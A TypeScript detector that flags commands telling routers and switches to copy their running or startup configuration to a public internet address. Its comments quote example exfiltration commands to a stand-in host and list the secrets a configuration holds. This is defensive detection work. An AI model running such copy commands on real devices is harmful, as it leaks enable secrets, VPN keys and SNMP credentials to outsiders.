// A device's or server's configuration copied by the device itself to a server on the internet:
// `copy running-config tftp://203.0.113.9/r1.cfg`, `show running-config | redirect
// ftp://...`, `file copy /config/juniper.conf.gz scp://...`, `copy startup-config http://...`.
// Network operating systems upload their own configuration when told to (the command runs on the
// device: through ssh, an SSH MCP tool, a netmiko/napalm script's send_command, an Ansible
// ad-hoc command), so no local file is read and no local client names the destination; what
// says where it goes is the URL in the command. A configuration holds the device's enable
// secret, local user hashes, SNMP communities, VPN pre-shared keys and routing secrets.
// Read as `config-copy-out HOST` when the URL's host is a public address; copies to flash,
// to another local file, or to a backup server on a private address or an internal name stay
// ordinary. Sources: Cisco IOS `copy` command reference (tftp:, ftp:, scp:, sftp:, http:,
// https: destinations), Arista EOS `copy` and `| redirect`, Junos `file copy`, NX-OS `copy`.
import type { Effect } from './types.js';
import type { LineView } from './line-view.js';
import { internalV4 } from './fetch-readings.js';

export const CONFIG_COPY_HINT =
  /(?:running|startup)-config|\bfile\s+copy\b|\.conf(?:\.gz)?\b|\bcopy\s+\S*(?:config|cfg)/i;

/** A copy or redirect of a configuration to a URL, within one command (no line break between). */
const COPY =
  /\b(?:copy|file\s+copy|redirect|append|tee|archive|upload|save)\b[^\n;'"]*?((?:tftp|ftp|sftp|scp|https?):\/\/(?:[^@/\s'"]+@)?(\[[^\]]+\]|[^/\s:'"]+))/gi;
/** What the copied thing must be for the copy to be a configuration. */
const CONFIG_WORD = /(?:running|startup)-config|\bconfig\b|\.conf(?:\.gz)?\b|\.cfg\b|juniper\.conf/i;

/** A public IPv4 literal (not loopback, link-local, private or shared address space). */
function publicAddress(host: string): boolean {
  return /^\d{1,3}(?:\.\d{1,3}){3}$/.test(host) && internalV4(host) === undefined;
}

export function configCopyEffects(line: LineView, out: Effect[]): void {
  const text = line.text;
  COPY.lastIndex = 0;
  for (let m = COPY.exec(text); m; m = COPY.exec(text)) {
    const host = m[2] ?? '';
    // the configuration is named in the copy itself or on the same line before the `| redirect`
    const start = text.lastIndexOf('\n', m.index) + 1;
    const before = text.slice(start, m.index + m[0].length);
    if (!CONFIG_WORD.test(before) || !publicAddress(host)) continue;
    out.push({
      tool: 'exec',
      command: `config-copy-out ${host}`,
      via: `the command tells a device to copy its configuration to ${m[1]} on the internet`,
    });
  }
}
